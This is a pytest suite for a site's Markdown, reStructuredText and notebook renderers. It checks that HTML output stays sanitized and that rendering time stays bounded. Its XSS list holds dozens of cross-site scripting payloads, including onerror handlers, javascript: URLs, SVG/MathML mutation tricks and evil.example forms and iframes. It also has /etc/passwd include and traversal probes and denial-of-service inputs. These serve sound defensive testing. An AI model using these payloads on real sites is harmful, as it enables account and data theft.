"""Markdown, reStructuredText and notebooks of hostile people become safe HTML, and of honest people the HTML they meant."""

import json
import time
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core import markdown, notebook, restructuredtext
from core.markdown import Links, render


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    """The words we add are English here, whatever language an earlier test left behind."""
    with translation.override("en"):
        yield


LINKS = Links(blob="/ns/name/blob/main", raw="/ns/name/raw/main", directory="docs")

XSS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/x' onclick='alert(1)' style='position:fixed' target='_top'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=alert(1) y=\"](a.png)",
    "![x](a.png \"t\\\" onerror=alert(1)\")",
    "<javascript:alert(1)>",
    "```x\" onmouseover=\"alert(1)\ncode\n```",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "```math\n\\text{<img src=x onerror=alert(1)>}\n```",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{color:red}{x}$",
    "$$\\class{x\" onload=\"alert(1)}{y}$$",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x'>",
    "<form action='https://evil.example/'><input name=password><button>x</button></form>",
    "<input type=image src=x onerror=alert(1) formaction='javascript:alert(1)'>",
    "<style>body{display:none}</style><link rel=stylesheet href='//evil.example/x.css'>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<div class='site-header skip-link' id='main' style='position:fixed'>x</div>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<textarea></textarea><title></title><img src=x onerror=alert(1)>",
    "> [!NOTE]<img src=x onerror=alert(1)>\n> x",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> heading\" onclick=\"x",
    "<img src='/\t/evil.example/x.png'><img src='//evil.example/x.png'><img src='\\\\evil.example\\x.png'><img src='/\\evil.example/x'>",
    "<img src='HTTPS://evil.example/x.png'><img src=https://evil.example/x.png><img srcset='https://evil.example/x.png'>",
]  # fmt: skip


class Audit(HTMLParser):
    """Reads HTML again and lists what a page of ours must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in markdown._TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            allowed = markdown._ATTRIBUTES.get(tag, set()) | markdown._ATTRIBUTES["*"] | ({"rel"} if tag == "a" else set())
            if name not in allowed:
                self.found.append(f"{tag} {name}")
            clean = "".join(char for char in value or "" if char > " ").lower()
            if name == "href" and not clean.startswith(("http://", "https://", "mailto:", "/", "#", "?")):
                self.found.append(f"href {value!r}")
            if name in ("href", "src") and clean.startswith(("//", "/\\", "\\")):
                self.found.append(f"{name} {value!r}")
            if name == "src" and not clean.startswith(("/", "data:image/png;base64,", "data:image/jpeg;base64,")):
                self.found.append(f"src {value!r}")
            if name == "class" and not all(part == "muted" or markdown._CLASS.fullmatch(part) for part in (value or "").split()):
                self.found.append(f"class {value!r}")
            if name in ("id", "name") and not (value or "").startswith("user-content-"):
                self.found.append(f"id {value!r}")


def audit(markup: str) -> list[str]:
    """What is not allowed in `markup`."""
    reader = Audit()
    reader.feed(markup)
    reader.close()
    return reader.found


@pytest.mark.parametrize("links", [LINKS, Links()], ids=["repository", "site"])
@pytest.mark.parametrize("text", XSS)
def test_hostile_markdown_is_harmless(text: str, links: Links) -> None:
    assert audit(render(text, links).html) == []


@pytest.mark.parametrize("text", XSS)
def test_hostile_restructuredtext_is_harmless(text: str) -> None:
    for source in (
        text,
        f".. raw:: html\n\n   {text}\n",
        f"`x <{text}>`__\n",
        f".. image:: {text}\n",
        f".. code:: python\n   :class: x\n\n   {text}\n",
    ):
        assert audit(restructuredtext.render(source, LINKS)) == []


@pytest.mark.parametrize("text", XSS)
def test_hostile_notebooks_are_harmless(text: str) -> None:
    bundle = {"text/html": text, "image/svg+xml": text, "text/plain": text, "image/png": text}
    outputs = [
        {"output_type": "display_data", "data": bundle},
        {"output_type": "stream", "text": [text]},
        {"output_type": "error", "ename": text, "evalue": text},
        {"output_type": "display_data", "data": {"image/png": text}},
    ]
    cells = [
        {"cell_type": "markdown", "source": [text]},
        {"cell_type": "code", "source": text, "outputs": outputs},
        {"cell_type": text, "source": text},
    ]
    source = json.dumps({"cells": cells, "metadata": {"kernelspec": {"language": text}}})
    assert audit(notebook.render(source, LINKS) or "<none>") == []


_PIECES = st.sampled_from(
    ["<", ">", "\"", "'", "&", "`", "```", "[", "]", "(", ")", "!", "*", "_", "$", "$$", "\n", "\n\n", "> ", "- ", "# ", "|", "javascript:", "&#106;", "<img ", "src=",
     "onerror=", "<a ", "href=", "<svg>", "<math>", "</", "<style>", "data:", "x", " ", "\t", "\0", "\u202e", "[^1]", "<!--", "-->", "<mtext>", "<table>", "//", "\\"]
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(_PIECES | st.text(max_size=4), max_size=40).map("".join))
def test_any_text_stays_inside_the_allow_list(text: str) -> None:
    assert audit(render(text, LINKS).html) == []
    assert audit(render(text).html) == []


N = 1024**2
SLOW = {
    "brackets": "[" * N,
    "images, closed": "![a" * (N // 8) + "]" * (N // 8),
    "links": "[a](" * (N // 4),
    "images": "![a" * (N // 3),
    "backticks": "".join("`" * i + " " for i in range(1, 1400)),
    "quotes": "> " * (N // 2),
    "stars": "**a *" * (N // 5),
    "lists": "\n".join("  " * i + "- a" for i in range(700)),
    "tags": "<div>" * (N // 5),
    "formatting": "<div>" + "".join(f"<b id={i}>" for i in range(300)) + "</div>" + "<p>x</p>" * 90_000,
    "entities": "&amp;" * (N // 5),
    "formulas": "$a $" * (N // 4),
    "braces": "$" + "{" * 1900 + "}" * 1900 + "$",
    "rows": "|a|b|\n|-|-|\n" + "|x|y|\n" * 14_000,
    "headings": "# a\n" * 14_000,
    "addresses": "www.a.com " * 19_000,
    "alerts": "> [!NOTE]\n> a\n\n" * 4_500,
    "fences": "```python\nx=1\n```\n" * 4_900,
    "comments": "<!--" * (N // 4),
    "one long table": "|".join(["a"] * 10_000) + "\n" + "|".join(["-"] * 10_000) + "\n" + "a\n" * 10_000,
    "tasks": "- [ ] a\n" * 7_000,
    "nested tasks": "".join("  " * (i % 40) + "- [x] a\n" for i in range(7_000)),
    "large fences": ("```c++\n" + 'template <class T> struct A { int x = 0xff; std::string s = "x"; };\n' * 12 + "```\n") * 1_000,
    "footnotes": "".join(f"[^{i}]: n\n\n" for i in range(7_000)) + "".join(f"x[^{i}] " for i in range(7_000)),
    "one footnote": "[^a]: n\n\n" + "x[^a] " * 15_000,
    "inline footnotes": "a^[b] " * 15_000,
    "emphasis": "_a *b **c " * 5_000,
    "references": "".join(f"[a{i}]: /u{i}\n" for i in range(7_000)) + "\n" + "".join(f"[a{i}] " for i in range(7_000)),
    "attributes": "<b " + " ".join(f'a{i}="x"' for i in range(50_000)) + ">",
    "deep fractions": "$" + r"\frac{1}{" * 300 + "x" + "}" * 300 + "$",
    "left without right": ("$$" + r"\left(" * 200 + "$$\n\n") * 900,
    "everything": "# T\n\n*e* **s** `c` [l](x) ![i](y.png) $a$ http://x.y <b>h</b> ~~s~~ [^1]\n\n- [ ] a\n\n|a|b|\n|-|-|\n|1|2|\n\n> q\n\n"
    * 1_000
    + "[^1]: n\n",
    "just below the limits": "[" * 2_900 + " a" * 9_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_pathological_text_costs_bounded_time(name: str) -> None:
    started = time.process_time()
    made = render(SLOW[name], LINKS).html
    assert time.process_time() - started < 2  # at most 0.9 s on an idle machine
    assert len(made) < 5 * N


def test_honest_long_documents_are_rendered() -> None:
    links = "".join(f"- [name{i}](https://github.com/x/y{i}) - A fast and *simple* library for doing `things`.\n" for i in range(3_500))
    table = "|a|b|c|d|\n|-|-|-|-|\n" + "|word|0.12|[x](y)|`z`|\n" * 3_000
    manual = ("## A\n\n" + "Plain words follow here. " * 12 + "\n\n```sh\nif true; then\n```\n\n- one\n- two\n\n") * 500
    for text, mark in ((links, "<li>"), (table, "<td>"), (manual, '<span class="')):
        assert render(text, LINKS).html.count(mark) >= 500


def test_too_much_is_shown_as_source() -> None:
    assert render("# a\n" * 30_000).html.startswith('<pre class="code-block" tabindex="0"># a')
    assert render("<b>" + "x" * N).html.startswith('<pre class="code-block" tabindex="0">&lt;b&gt;')


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[a](b.md)", 'href="/ns/name/blob/main/docs/b.md"'),
        ("[a](../b.md#x)", 'href="/ns/name/blob/main/b.md#x"'),
        ("[a](/b.md)", 'href="/ns/name/blob/main/b.md"'),
        ("[a](#x)", 'href="#user-content-x"'),
        ("[a](<中 文.md>)", 'href="/ns/name/blob/main/docs/%E4%B8%AD%20%E6%96%87.md"'),
        ("![图](img/a.png)", 'src="/ns/name/raw/main/docs/img/a.png"'),
        ("![图](img/a.png)", 'loading="lazy"'),
        ("https://example.org", 'rel="nofollow noopener ugc"'),
        (
            "![远](https://example.org/a.png)",
            '<a class="external-image" href="https://example.org/a.png" rel="nofollow noopener ugc">远</a>',
        ),
        ("~~a~~", "<s>a</s>"),
        ("- [x] a", 'type="checkbox"'),
        ("|a|\n|-|\n|b|", "<td>b</td>"),
        ("a[^1]\n\n[^1]: b", 'class="footnotes"'),
        ("# Some `Title`", 'id="user-content-some-title"'),
        ("# A\n# A", 'id="user-content-a-1"'),
        ("# 数据 集", 'id="user-content-数据-集"'),
        ("$x^2$", "<msup>"),
        ("```math\nx^2\n```", 'display="block"'),
        ("$\\frac{$", "<code>"),
        ("```mermaid\ngraph TD\n```", "mermaid-source"),
        ("```python\ndef f(): pass\n```", '<span class="k">def </span><span class="f">f</span>'),
        ("```nosuchlanguage\na < b\n```", "a &lt; b"),
        ("> [!WARNING]\n> careful", 'class="notice notice-warning"'),
        ("> [!WARNING]\n> careful", '<b class="notice-title">Warning</b>'),
        ("> [!NOTE]\n> a\n>\n> > [!TIP]\n> > b", '<b class="notice-title">Tip</b>'),
        ("- [X] done *b*", '<label><input type="checkbox" disabled="disabled" checked=""> done <em>b</em></label>'),
        ("1. [ ] a\n   - [x] b", '<ul class="contains-task-list">'),
        ("<details><summary>更多</summary>\n\n**a**\n\n</details>", "<strong>a</strong>"),
    ],
)
def test_what_honest_text_becomes(text: str, expected: str) -> None:
    assert expected in render(text, LINKS).html


def test_links_cannot_leave_the_repository() -> None:
    assert "href" not in render("[a](../../secret)", LINKS).html
    assert "href" not in render("[a](%2e%2e/%2e%2e/%2e%2e/secret)", LINKS).html


def test_front_matter_is_taken_off() -> None:
    made = render("---\nlicense: mit\n---\n# A\n")
    assert made.front_matter == "license: mit"
    assert "license" not in made.html


def test_the_cache_key_depends_on_text_and_place() -> None:
    assert len({markdown.cache_key("readme", text, links) for text in ("a", "b") for links in (LINKS, Links())}) == 4


def test_notebooks_show_code_text_and_images() -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    cells = [
        {"cell_type": "markdown", "source": ["# 标题"]},
        {"cell_type": "code", "source": "import os", "outputs": [
            {"output_type": "stream", "text": ["one\n", "two"]},
            {"output_type": "display_data", "data": {"image/png": png}},
            {"output_type": "display_data", "data": {"text/html": "<b>bold</b>"}},
        ]},
    ]  # fmt: skip
    made = notebook.render(json.dumps({"cells": cells})) or ""
    assert '<span class="k">import </span>os' in made
    assert "one\ntwo" in made
    assert f'src="data:image/png;base64,{png}"' in made
    assert "bold" not in made
    assert '<p class="muted">' in made
    assert "标题</h1>" in made


def test_a_notebook_shows_numbers_errors_without_colours_and_what_it_leaves_out() -> None:
    error = {"output_type": "error", "ename": "E", "evalue": "bad", "traceback": ["\x1b[0;31mTrace<b>\x1b[0m", "line 2"]}
    cells = [{"cell_type": "code", "execution_count": 7, "source": "x", "outputs": [error]}]
    made = notebook.render(json.dumps({"cells": cells})) or ""
    assert '<span class="cell-number">[7]</span>' in made
    assert "Trace&lt;b&gt;\nline 2" in made
    assert "\x1b" not in made
    long = {"output_type": "stream", "text": "x" * (notebook.OUTPUT + 5)}
    many = [{"cell_type": "code", "source": "y", "outputs": [long] * 50}] * 10 + [{"cell_type": "markdown", "source": "z"}] * (
        notebook.CELLS - 9
    )
    made = notebook.render(json.dumps({"cells": many})) or ""
    assert "x\n…</pre>" in made
    assert len(made) < notebook.OUTPUTS + 100_000
    assert "outputs are not shown" in made
    assert "1 more cell is not shown" in made


@pytest.mark.parametrize(
    "text", ["", "{", "[]", "null", '{"cells": 1}', '{"cells": [1, null, {}], "metadata": 3}', "[" * 100_000, '{"a": 1}']
)
def test_what_is_no_notebook_is_refused_or_empty(text: str) -> None:
    assert not (notebook.render(text) or "").replace("\n", "").strip() or "code-block" in (notebook.render(text) or "")


def test_restructuredtext_shows_headings_and_links_and_reads_no_file() -> None:
    made = restructuredtext.render("Title\n=====\n\n`a <b.rst>`_\n\n.. include:: /etc/passwd\n", LINKS)
    assert "Title</h" in made
    assert 'href="/ns/name/blob/main/docs/b.rst"' in made
    assert "root:" not in made


def test_restructuredtext_costs_bounded_time() -> None:
    for text in ("a\n=\n\n" * 40_000, "* " * 100_000, "`a " * 80_000, "|a " * 80_000):
        started = time.process_time()
        restructuredtext.render(text)
        assert time.process_time() - started < 2


def test_a_notebook_of_many_costly_cells_costs_bounded_time() -> None:
    cells = [{"cell_type": "markdown", "source": "**a *" * 4_000}, {"cell_type": "code", "source": "x = 1\n" * 2_000}] * 250
    started = time.process_time()
    assert notebook.render(json.dumps({"cells": cells}))
    assert time.process_time() - started < 3  # 1.3 s on an idle machine
